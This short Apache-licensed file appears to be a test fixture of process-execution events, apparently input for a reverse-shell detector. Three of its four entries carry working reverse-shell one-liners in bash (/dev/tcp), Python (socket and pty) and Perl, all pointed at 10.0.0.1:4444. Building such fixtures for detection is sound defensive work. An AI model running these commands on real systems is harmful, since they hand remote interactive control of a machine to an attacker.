# SPDX-License-Identifier: Apache-2.0
exec pid=60 uid=1000 exe=/usr/bin/bash args=-bash tty=pts/0
exec pid=61 parent=60 uid=1000 exe=/usr/bin/bash args="bash|-c|sh >/dev/tcp/10.0.0.1/4444 0>&1"
exec pid=62 parent=60 uid=1000 exe=/usr/bin/python3.11 filename=/usr/bin/python3 args="python3|-c|import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')"
exec pid=63 parent=60 uid=1000 exe=/usr/bin/perl args="perl|-e|use Socket;socket(S,2,1,6);connect(S,$a);open(STDIN,'>&S');exec('sh -i');"
